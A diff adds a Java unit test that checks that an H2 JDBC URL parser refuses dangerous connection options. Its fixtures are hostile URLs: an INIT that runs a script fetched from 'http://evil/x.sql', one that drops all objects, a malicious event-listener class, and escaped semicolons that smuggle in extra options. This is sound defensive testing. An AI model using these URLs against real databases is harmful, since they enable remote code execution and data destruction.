@@ -1,6 +1,7 @@
 package io.offsetwise.adapters.storage.h2;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.offsetwise.adapters.storage.fixture.OnH2;
 import io.offsetwise.adapters.storage.fixture.Stops;
@@ -34,6 +35,30 @@ class H2UrlTest {
       })
   void whatIsMissingIsAddedAndWhatIsThereStays(String url, String connecting) {
     assertThat(H2Url.parse(url).connectingUrl(JdbcTimeouts.STANDARD, 777)).isEqualTo(connecting);
+  }
+
+  /** Each would run statements, load a class, write a file, or hide another option from us. */
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '`',
+      value = {
+        "jdbc:h2:/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | INIT",
+        "jdbc:h2:tcp://h/x; init = drop all objects | INIT",
+        "jdbc:h2:/x\\;INIT=x | INIT",
+        "jdbc:h2:/x;SCHEMA=a\\\\;INIT=x | INIT, \\",
+        "jdbc:h2:/x;SCHEMA=a\\;b | B, \\",
+        "jdbc:h2:/x;RUNSCRIPT=x | RUNSCRIPT",
+        "jdbc:h2:/x;DATABASE_EVENT_LISTENER='evil.Listener' | DATABASE_EVENT_LISTENER",
+        "jdbc:h2:/x;TRACE_LEVEL_FILE=3 | TRACE_LEVEL_FILE",
+        "jdbc:h2:/x;AUTHREALM=x;CIPHER=AES | AUTHREALM, CIPHER",
+        "jdbc:h2:/x;RECOVER_TEST=1 | RECOVER_TEST"
+      })
+  void whatIsNotKnownToBeHarmlessIsRefused(String url, String named) {
+    assertThatThrownBy(() -> H2Url.parse(url))
+        .isInstanceOf(IllegalArgumentException.class)
+        .hasMessageContaining(" has " + named + ", which is not taken from an address")
+        .hasMessageNotContaining("evil");
   }
 
   @ParameterizedTest
